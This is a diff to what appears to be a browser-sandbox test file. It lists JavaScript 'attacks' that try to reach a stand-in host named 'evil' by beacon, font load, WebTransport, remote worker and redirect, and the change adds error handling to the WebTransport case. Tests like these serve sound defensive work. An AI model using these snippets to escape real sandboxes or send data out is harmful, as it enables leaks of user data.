@@ -39,7 +39,7 @@ export const attacks: Readonly<Record<string, Readonly<Record<string, string>>>>
     'imports a script as data': `importScripts('data:text/javascript,self.x=1'); return x`,
     'loads a font': `return (await new FontFace('f', 'url(' + evil + '/font.woff)').load()).status`,
     'sends a beacon': `if (navigator.sendBeacon(evil + '/beacon', 'news')) return 'sent'; throw new Error('no')`,
-    'opens a transport': `const t = new WebTransport(evil.replace('http:', 'https:')); await t.ready; return 'ready'`,
+    'opens a transport': `const t = new WebTransport(evil.replace('http:', 'https:')); t.closed.catch(() => undefined); await t.ready; return 'ready'`,
     'opens a connection between peers': `return await new RTCPeerConnection().createOffer()`,
     'starts a worker from elsewhere': `return await worker(new Worker(evil + '/worker.js'))`,
     'leaves by a redirect': `location.href = evil + '/redirect'; throw new Error('still here')`,
